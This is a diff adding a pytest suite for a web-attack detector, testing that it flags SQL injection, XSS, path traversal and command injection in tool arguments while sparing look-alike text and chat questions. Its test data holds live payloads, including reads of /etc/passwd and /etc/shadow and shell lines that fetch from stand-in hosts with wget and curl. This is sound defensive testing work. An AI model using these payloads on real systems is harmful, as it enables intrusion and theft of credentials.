@@ -1,0 +1,139 @@
+"""SQL shapes and decoding of the web-attack detector: own examples, look-alikes, linear time."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from bastion.core.normalise import on_views
+from bastion.core.types import Direction, Severity, Subject
+from bastion.detectors.webattack import decoded, webattack_check
+from bastion.detectors.webattack_sql import SHAPES, Shape, sql_signals
+
+CHECK = on_views(webattack_check())
+
+
+def _high(text: str, direction: Direction = Direction.TOOL_ARGS) -> set[str]:
+    return {
+        f.code
+        for f in CHECK(Subject(text=text, direction=direction))
+        if f.severity.rank >= Severity.HIGH.rank
+    }
+
+
+@pytest.mark.parametrize("shape", SHAPES, ids=[shape.id for shape in SHAPES])
+def test_shape_matches_its_examples_and_not_its_counterexamples(shape: Shape) -> None:
+    missed = [text for text in shape.examples if shape not in sql_signals(text)]
+    wrong = [text for text in shape.counterexamples if shape in sql_signals(text)]
+    assert not missed, f"{shape.id} misses {missed}"
+    assert not wrong, f"{shape.id} matches {wrong}"
+
+
+ATTACKS = [
+    # SQL injection: breaking out of a quote, tautologies, comments, stacked queries, encodings
+    ("A' OR 'B", "webattack.sqli"),
+    ("x' DIV '", "webattack.sqli"),
+    ("1' AND SLEEP(5)-- ", "webattack.sqli"),
+    ("admin'/**/or/**/1=1#", "webattack.sqli"),
+    ("-7 OR 2>1", "webattack.sqli"),
+    ("( ( 1 ) OR ( 'b' ) )  --", "webattack.sqli"),
+    ("10; SHUTDOWN --", "webattack.sqli"),
+    ("1%27%20OR%20%271%27%3D%271", "webattack.sqli"),
+    ("select name,pass from accounts where 1", "webattack.sqli"),
+    ("1 AND extractvalue(1,concat(0x7e,version()))", "webattack.sqli"),
+    # XSS: tags, handlers, script URLs hidden in entities and escapes, DOM access, templates
+    ("<svg/onload=alert(1)>", "webattack.xss"),
+    ("<a href=&#x6A&#x61vascript&colon;alert(1)>x</a>", "webattack.xss"),
+    (
+        "<iframe src=j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t&Tab;:alert(1)>",
+        "webattack.xss",
+    ),
+    ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "webattack.xss"),
+    ("%uff1cscript%uff1ealert(1)%uff1c/script%uff1e", "webattack.xss"),
+    ("window['al'+'ert'](document['cookie'])", "webattack.xss"),
+    ("{{constructor.constructor('alert(1)')()}}", "webattack.xss"),
+    ("<embed src=//evil.example/x.swf>", "webattack.xss"),
+    # path traversal, in its encodings
+    ("..%252f..%252fetc%252fpasswd", "webattack.path_traversal"),
+    ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "webattack.path_traversal"),
+    ("..\\..\\windows\\win.ini", "webattack.path_traversal"),
+    ("../../../etc/shadow%00.png", "webattack.path_traversal"),
+    # shell
+    ("; cat /etc/passwd", "webattack.cmdi"),
+    ("a|wget http://x.example/s.sh", "webattack.cmdi"),
+    ("$(curl -s http://x.example)", "webattack.cmdi"),
+    ("cat${IFS}/etc/passwd", "webattack.cmdi"),
+]
+
+
+@pytest.mark.parametrize(("text", "code"), ATTACKS)
+def test_attacks_in_tool_arguments_are_high(text: str, code: str) -> None:
+    assert code in _high(text)
+
+
+LOOK_ALIKES = [
+    "O'Reilly",
+    "Please ship 2 copies of O'Reilly's SQL Cookbook",
+    "She is 5' 10\" tall",
+    'a 16" or 18" necklace',
+    "Rock and roll, or jazz?",
+    "I'd like to select a size from the menu",
+    "see docs/../README for details",
+    "Tom & Jerry; a classic",
+    "Price: $5 (approx) - 10% off!",
+    "Order #2 arrived; order #3 didn't",
+    "The union selected a new leader",
+    'He said "drop it" and left',
+    '1-1/8" PLUGS',
+    "Meet at 10:30; bring the report",
+]
+
+
+@pytest.mark.parametrize("text", LOOK_ALIKES)
+def test_look_alikes_in_tool_arguments_are_not_high(text: str) -> None:
+    assert not _high(text)
+
+
+CHAT = [
+    "How do I write a SELECT with a JOIN? e.g. SELECT a.id FROM a JOIN b ON a.id = b.a_id",
+    "Can you make this <b>bold</b> and <i>italic</i>?",
+    "Why is ' OR 1=1 -- dangerous in a login form?",
+    "I ran `ls -la; cat notes.txt` and it printed nothing",
+    "<script>alert(1)</script> is the classic XSS test, right?",
+]
+
+
+@pytest.mark.parametrize("text", CHAT)
+def test_talk_about_attacks_in_chat_is_not_blocked(text: str) -> None:
+    assert not _high(text, Direction.INPUT)
+
+
+def test_decoding_undoes_nested_encodings() -> None:
+    assert decoded("%252e%252e%252f") == "../"
+    assert decoded("&#x3c;b&#62;") == "<b>"
+    assert decoded("plain text") is None
+
+
+def _elapsed(function: object, text: str) -> float:
+    best = float("inf")
+    for _ in range(3):
+        started = time.perf_counter()
+        function(text)  # type: ignore[operator]
+        best = min(best, time.perf_counter() - started)
+    return max(best, 1e-3)
+
+
+STRESSORS = ("'", "' or ", "(", "/*", "%25", "&#x", "\\u00", "<a ", "select ", "'--", '"', "#")
+
+
+@pytest.mark.parametrize("stressor", STRESSORS)
+def test_shapes_and_decoding_scale_linearly(stressor: str) -> None:
+    check = webattack_check()
+
+    def run(text: str) -> object:
+        return list(check(Subject(text=text, direction=Direction.TOOL_ARGS)))
+
+    small = stressor * (50_000 // len(stressor))
+    ratio = _elapsed(run, small * 4) / _elapsed(run, small)
+    assert ratio < 16, f"x4 input of {stressor!r} took x{ratio:.1f} time"
